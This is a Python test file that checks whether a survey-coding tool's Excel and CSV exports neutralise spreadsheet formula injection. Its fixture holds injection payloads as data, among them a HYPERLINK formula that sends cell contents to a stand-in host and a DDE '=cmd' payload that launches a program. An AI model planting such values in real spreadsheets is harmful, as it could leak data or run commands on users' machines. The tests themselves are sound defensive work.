"""Nothing textcode writes runs: no formula cell in any workbook, no live formula in a CSV meant
for people, and machine CSVs that keep every text exactly (issue 15, item 1).

The answers are real ones from the sample survey; ids, answers and an attribute carry formulas
such as ``=HYPERLINK("http://…?x="&A1,"klik")`` that a spreadsheet would run.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from textcode.cli import main

HYPERLINK = '=HYPERLINK("http://x.nl/?x="&A1,"klik")'
ROWS = [
    ("=1+1", "Meer kennis over de AVG en wetgeving rond data delen", "@SUM(A1)"),
    ("r2", HYPERLINK, "gemeente"),
    ("+31612345678", "Er was te weinig budget en geen tijd voor innovatie", "-1+1"),
    ("r4", "Gebrek aan draagvlak bij de top; =cmd|' /C calc'!A0", "veiligheidsregio"),
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture()
def answers(tmp_path: Path) -> Path:
    path = tmp_path / "antwoorden.csv"
    frame = pd.DataFrame(ROWS, columns=["id", "belemmering", "organisatie"])
    frame.to_csv(path, index=False)
    return path


def _formula_cells(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _texts(path: Path) -> set[str]:
    book = openpyxl.load_workbook(path)
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def _cli(*args: str) -> None:
    assert main([*args, "--quiet"]) == 0


def test_no_workbook_holds_a_formula_cell(answers: Path, tmp_path: Path) -> None:
    columns = ["--id-column", "id", "--text-column", "belemmering"]
    suggestions = tmp_path / "s.jsonl"
    _cli("code", str(answers), *columns, "--out", str(suggestions))
    _cli("export", "excel", str(answers), *columns, "--suggestions", str(suggestions),
         "--out", str(tmp_path / "codering.xlsx"), "--no-redact")  # fmt: skip
    _cli("report", str(answers), *columns, "--by", "organisatie", "--out", str(tmp_path / "r"))
    _cli("redact", str(answers), *columns, "--out", str(tmp_path / "schoon.xlsx"))
    for workbook in (tmp_path / "codering.xlsx", tmp_path / "r" / "tabellen.xlsx"):
        assert _formula_cells(workbook) == [], workbook
    assert _formula_cells(tmp_path / "schoon.xlsx") == []
    # The texts are there, as text: an id "=1+1" shows as "=1+1", not as 2.
    assert {"=1+1", HYPERLINK, "@SUM(A1)"} <= _texts(tmp_path / "codering.xlsx")
    assert {"=1+1", "@SUM(A1)", "-1+1"} <= _texts(tmp_path / "schoon.xlsx")
    redacted = pd.read_excel(tmp_path / "schoon.xlsx", dtype=str)
    assert redacted["id"].tolist() == [r[0] for r in ROWS]


def test_csvs_for_people_neutralise_formulas(answers: Path, tmp_path: Path) -> None:
    columns = ["--id-column", "id", "--text-column", "belemmering"]
    _cli("report", str(answers), *columns, "--by", "organisatie", "--out", str(tmp_path / "r"))
    _cli("kwic", str(answers), *columns, "--term", "budget", "--out", str(tmp_path / "k.csv"))
    files = [*sorted((tmp_path / "r" / "tabellen").glob("*.csv")), tmp_path / "k.csv"]
    seen = 0
    for path in files:
        text = path.read_text(encoding="utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell.startswith(DANGEROUS), (path.name, cell)
                seen += cell.startswith("'=")
    assert seen >= 1  # the id "=1+1" is in the tables, neutralised: "'=1+1"


def test_machine_csvs_keep_every_text_exactly(answers: Path, tmp_path: Path) -> None:
    columns = ["--id-column", "id", "--text-column", "belemmering"]
    _cli("code", str(answers), *columns, "--out", str(tmp_path / "s.csv"))
    _cli("redact", str(answers), *columns, "--columns", "", "--out", str(tmp_path / "r.csv"))
    coded = pd.read_csv(tmp_path / "s.csv", dtype=str, keep_default_na=False)
    assert "=1+1" in set(coded["response_id"]) and "+31612345678" in set(coded["response_id"])
    redacted = pd.read_csv(tmp_path / "r.csv", dtype=str, keep_default_na=False)
    assert redacted["organisatie"].tolist() == [r[2] for r in ROWS]
    assert redacted["id"].tolist() == [r[0] for r in ROWS]
